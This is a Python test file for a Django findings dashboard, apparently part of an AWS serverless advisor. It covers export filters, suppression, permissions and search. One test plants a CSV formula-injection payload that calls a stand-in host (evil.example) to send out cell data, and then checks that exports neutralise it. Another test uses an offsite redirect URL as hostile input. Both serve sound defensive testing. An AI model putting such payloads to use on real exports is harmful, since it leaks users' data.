"""The findings page: filters, status tabs, bulk suppress, and exports that match the filter."""

import csv
import datetime as dt
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone

from advisor.models import Finding, Suppression
from tests.dashboard.builders import make_finding, make_function, make_scan
from tests.factories import make_account, make_user, make_workspace
from tests.fixtures.aws_state import create_function
from tests.reports.builders import connected_account, scan_inline


def export_csv(client, query: str) -> list[dict]:
    response = client.get(f"/findings/?{query}&format=csv")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def export_json(client, query: str) -> list[dict]:
    response = client.get(f"/findings/?{query}&format=json")
    assert response["Content-Type"] == "application/json"
    payload = json.loads(b"".join(response.streaming_content))
    assert payload["count"] == len(payload["findings"])
    return payload["findings"]


@pytest.mark.parametrize(
    ("query", "expected_rules"),
    [
        ("", ["apigw-timeout-exceeds-integration", "tracing-disabled"]),
        ("severity=high", ["apigw-timeout-exceeds-integration"]),
        ("pillar=operations", ["tracing-disabled"]),
        ("rule=tracing-disabled", ["tracing-disabled"]),
        ("q=APIGW", ["apigw-timeout-exceeds-integration"]),
        ("region=eu-west-1", []),
    ],
)
def test_exports_hold_exactly_the_filtered_rows(client, world, query, expected_rules):
    client.force_login(world["alice"])
    rows = export_csv(client, query)
    assert [r["rule_id"] for r in rows] == expected_rules  # worst first
    assert [r["rule_id"] for r in export_json(client, query)] == expected_rules
    assert all(r["account"] == "acme-prod" for r in rows)


def test_export_columns(client, world):
    client.force_login(world["alice"])
    (row,) = export_csv(client, "severity=low")
    assert row["resource_arn"] == world["orders"].arn
    assert row["status"] == "open" and row["suppressed"] == "False"
    assert row["remediation_cli"].startswith("aws lambda")


def test_export_ignores_pagination(client, world):
    for i in range(60):
        make_finding(make_function(world["my_scan"], f"p-{i}", with_metrics=False))
    client.force_login(world["alice"])
    assert len(export_csv(client, "rule=tracing-disabled&page=2")) == 61


def test_bulk_suppress_moves_findings_to_the_suppressed_tab(client, world):
    client.force_login(world["alice"])
    finding = world["my_finding"]
    expiry = (timezone.now() + dt.timedelta(days=30)).date().isoformat()
    # when
    response = client.post(
        reverse("advisor:finding-suppress"),
        {
            "finding": [finding.pk],
            "reason": "internal tool",
            "expires": expiry,
            "next": "/findings/",
        },
    )
    # then
    assert response.status_code == 302 and response.url == "/findings/"
    suppression = Suppression.objects.get()
    assert suppression.reason == "internal tool"
    assert suppression.expires_at.date().isoformat() == expiry
    assert suppression.created_by == world["alice"]
    open_rules = [r["rule_id"] for r in export_csv(client, "status=open")]
    suppressed = export_csv(client, "status=suppressed")
    assert "tracing-disabled" not in open_rules
    assert [r["rule_id"] for r in suppressed] == ["tracing-disabled"]
    assert suppressed[0]["suppressed"] == "True"
    body = client.get("/findings/?status=suppressed").content.decode()
    assert (
        "internal tool" in body
        and 'aria-current="page" class="current" data-tab="suppressed"' in body
    )


def test_suppress_without_reason_changes_nothing(client, world):
    client.force_login(world["alice"])
    response = client.post(
        reverse("advisor:finding-suppress"), {"finding": [world["my_finding"].pk], "reason": " "}
    )
    assert response.status_code == 302
    assert not Suppression.objects.exists()
    messages = [m.message for m in response.wsgi_request._messages]
    assert messages == ["Say why these findings are suppressed."]


def test_suppress_with_a_bad_date_changes_nothing(client, world):
    client.force_login(world["alice"])
    client.post(
        reverse("advisor:finding-suppress"),
        {"finding": [world["my_finding"].pk], "reason": "ok", "expires": "next week"},
    )
    assert not Suppression.objects.exists()


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"reason": "ok", "expires": "next week"}, "'next week' is not a date (YYYY-MM-DD)."),
        ({"reason": "ok", "expires": "2020-01-01"}, "The expiry must be in the future."),
        ({"reason": "x" * 501}, "Ensure this value has at most 500 characters (it has 501)."),
    ],
)
def test_suppress_input_errors_are_said_and_nothing_changes(client, world, fields, message):
    client.force_login(world["alice"])
    response = client.post(
        reverse("advisor:finding-suppress"), {"finding": [world["my_finding"].pk], **fields}
    )
    assert not Suppression.objects.exists()
    assert [m.message for m in response.wsgi_request._messages] == [message]


def test_suppress_ignores_an_offsite_next(client, world):
    client.force_login(world["alice"])
    response = client.post(
        reverse("advisor:finding-suppress"),
        {"finding": [world["my_finding"].pk], "reason": "ok", "next": "https://evil.example/"},
    )
    assert response.url == reverse("advisor:finding-list")


def test_tabs_count_each_status(client, world):
    make_finding(world["reports"], rule_id="log-retention-unset", status=Finding.Status.RESOLVED)
    client.force_login(world["alice"])
    body = client.get("/findings/").content.decode()
    assert 'data-tab="open">Open <span class="badge">2</span>' in body
    assert 'data-tab="resolved">Resolved <span class="badge">1</span>' in body
    assert [r["rule_id"] for r in export_csv(client, "status=resolved")] == ["log-retention-unset"]


def test_severity_is_shown_as_text(client, world):
    client.force_login(world["alice"])
    body = client.get("/findings/").content.decode()
    assert '<span class="sev sev-high">High</span>' in body


@pytest.mark.parametrize("count", [3, 30])
def test_query_count_does_not_grow_with_findings(
    client, world, django_assert_max_num_queries, count
):
    for i in range(count):
        make_finding(make_function(world["my_scan"], f"q-{i}", with_metrics=False))
    Suppression.objects.create(
        account=world["my_account"], rule_id="x", resource_pattern="*", reason="r"
    )
    client.force_login(world["alice"])
    # the session, the user, the accounts with their latest scans (ids, menu and links at
    # once), the tab counts, the page, its function links, the facets, may the user suppress
    with django_assert_max_num_queries(8):
        response = client.get("/findings/?status=all")
    assert response.status_code == 200


def test_exports_read_each_row_once_whatever_their_number(client, world):
    """The exports read an account's name and a suppression's reason with the finding, not a
    query per row for a column the list left out."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    suppression = Suppression.objects.create(
        account=world["my_account"], rule_id="x", resource_pattern="*", reason="r"
    )
    client.force_login(world["alice"])
    queries = {}
    made = 0
    for size in (3, 30):
        for made in range(made, size):  # noqa: B020 - continues where the last size stopped
            finding = make_finding(make_function(world["my_scan"], f"e-{made}"))
            finding.suppression = suppression
            finding.save(update_fields=["suppression"])
        made = size
        for fmt in ("csv", "json"):
            with CaptureQueriesContext(connection) as captured:
                response = client.get(f"/findings/?status=all&format={fmt}")
                rows = b"".join(response.streaming_content)
            assert rows.count(b"acme-prod") >= size
            queries[fmt, size] = len(captured)
    assert queries["csv", 30] == queries["csv", 3]
    assert queries["json", 30] == queries["json", 3]


def test_an_expired_suppression_shows_the_finding_as_open_again(client, world):
    # given a suppression that expired (still linked until the next scan re-applies them)
    finding = world["my_finding"]
    finding.suppression = Suppression.objects.create(
        account=world["my_account"],
        rule_id=finding.rule_id,
        resource_pattern=finding.resource_arn,
        reason="until the migration",
        expires_at=timezone.now() - dt.timedelta(days=1),
    )
    finding.save(update_fields=["suppression"])
    client.force_login(world["alice"])
    # then it is open, not suppressed, and not labelled as suppressed
    assert "tracing-disabled" in [r["rule_id"] for r in export_csv(client, "status=open")]
    assert export_csv(client, "status=suppressed") == []
    assert "until the migration" not in client.get("/findings/").content.decode()


def suppress(finding, account, reason="accepted"):
    finding.suppression = Suppression.objects.create(
        account=account,
        rule_id=finding.rule_id,
        resource_pattern=finding.resource_arn,
        reason=reason,
    )
    finding.save(update_fields=["suppression"])
    return finding.suppression


def test_removing_a_suppression_shows_the_finding_as_open_again(client, world):
    suppression = suppress(world["my_finding"], world["my_account"])
    client.force_login(world["alice"])
    body = client.get("/findings/?status=suppressed").content.decode()
    assert f'name="suppression" value="{suppression.pk}"' in body
    response = client.post(
        reverse("advisor:finding-unsuppress"),
        {"suppression": [suppression.pk], "next": "/findings/?status=suppressed"},
    )
    assert response.status_code == 302 and response.url == "/findings/?status=suppressed"
    assert not Suppression.objects.exists()
    assert "tracing-disabled" in [r["rule_id"] for r in export_csv(client, "status=open")]


def test_viewer_cannot_remove_a_suppression(client, world):
    suppression = suppress(world["my_finding"], world["my_account"])
    client.force_login(world["vera"])
    assert 'name="suppression"' not in client.get("/findings/?status=suppressed").content.decode()
    response = client.post(reverse("advisor:finding-unsuppress"), {"suppression": [suppression.pk]})
    assert response.status_code == 403
    assert Suppression.objects.filter(pk=suppression.pk).exists()


def test_another_workspaces_suppression_is_not_found(client, world):
    suppression = suppress(world["their_finding"], world["their_account"])
    client.force_login(world["alice"])
    response = client.post(reverse("advisor:finding-unsuppress"), {"suppression": [suppression.pk]})
    assert response.status_code == 404
    assert Suppression.objects.filter(pk=suppression.pk).exists()


@pytest.mark.parametrize(
    ("q", "expected_rules"),
    [
        ("Tracing Disabled", ["tracing-disabled"]),  # the title, any case
        ("apigw-timeout", ["apigw-timeout-exceeds-integration"]),  # the rule id
        ("ORDERS-API breaks", ["apigw-timeout-exceeds-integration", "tracing-disabled"]),  # message
        (":function:orders-api", ["apigw-timeout-exceeds-integration", "tracing-disabled"]),  # ARN
        ("their-secret", []),  # another workspace's function is not searched
        ("%", []),  # LIKE wildcards are literal text
    ],
)
def test_text_search_matches_rule_title_resource_and_message(client, world, q, expected_rules):
    client.force_login(world["alice"])  # Bob's workspace has a finding on their-secret-fn
    response = client.get("/findings/", {"q": q})
    assert [f.rule_id for f in response.context["page"].object_list] == expected_rules


def test_text_search_uses_the_trigram_index_on_postgresql(world):
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("the trigram index exists on PostgreSQL only")
    with connection.cursor() as cursor:
        cursor.execute("SET enable_seqscan = off")
        cursor.execute(
            "EXPLAIN SELECT id FROM advisor_finding WHERE search_text LIKE %s", ["%orders-api%"]
        )
        plan = " ".join(row[0] for row in cursor.fetchall())
        cursor.execute("RESET enable_seqscan")
    assert "finding_search_trgm" in plan


def test_exported_cells_that_start_like_formulas_are_neutralised(client, db, aws):
    # Given an account renamed on its page to a formula, whose scan found a function whose name
    # (valid on AWS) starts the finding's message with "-",
    account, session = connected_account(aws, members={make_user("mallory"): "owner"})
    create_function(session, aws, name="-2-3", runtime="python3.8")
    scan_inline(account)
    client.force_login(account.workspace.memberships.get().user)
    planted = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
    response = client.post(
        reverse("accounts:edit", args=[account.pk]),
        {
            "name": planted,
            "account_id": account.account_id,
            "role_arn": account.role_arn,
            "regions": account.regions,
            "enabled": "on",
            "endpoint_url": account.endpoint_url,
        },
    )
    assert response.status_code == 302, response.content.decode()
    # when the findings are exported,
    rows = [r for r in export_csv(client, "") if r["resource_arn"].endswith(":-2-3")]
    # then a spreadsheet reads those cells as text: each starts with a single quote.
    assert rows and {r["account"] for r in rows} == {"'" + planted}
    assert all(r["message"].startswith("'-2-3 ") for r in rows)
    # The JSON export is data, not a spreadsheet: it keeps the values as they are.
    assert {r["account"] for r in export_json(client, "")} == {planted}


def test_suppress_controls_show_only_on_findings_of_workspaces_the_user_manages(client, world):
    # given: Vera views Alice's workspace and administers her own
    own = make_workspace(members={world["vera"]: "admin"})
    own_scan = make_scan(make_account(own, name="vera-prod"))
    own_finding = make_finding(make_function(own_scan, "vera-fn"))
    mine = world["my_finding"]
    client.force_login(world["vera"])
    # when
    body = client.get("/findings/").content.decode()
    # then: a box beside her own workspace's finding only, and the server agrees
    assert f'name="finding" value="{own_finding.pk}"' in body
    assert f'name="finding" value="{mine.pk}"' not in body
    assert "Suppress selected" in body
    refused = client.post(
        reverse("advisor:finding-suppress"), {"finding": [mine.pk], "reason": "x"}
    )
    assert refused.status_code == 403
    # and on the suppressed tab, the same per workspace
    theirs = suppress(mine, world["my_account"])
    hers = suppress(own_finding, own_finding.account)
    body = client.get("/findings/?status=suppressed").content.decode()
    assert f'name="suppression" value="{hers.pk}"' in body
    assert f'name="suppression" value="{theirs.pk}"' not in body


def test_no_suppress_controls_where_the_user_manages_none_of_the_findings(client, world):
    # given: Vera administers a workspace with no findings and views Alice's
    make_workspace(members={world["vera"]: "admin"})
    client.force_login(world["vera"])
    body = client.get("/findings/").content.decode()
    assert 'name="finding"' not in body and "Suppress selected" not in body
    suppress(world["my_finding"], world["my_account"])
    body = client.get("/findings/?status=suppressed").content.decode()
    assert 'name="suppression"' not in body and "Remove the suppression" not in body
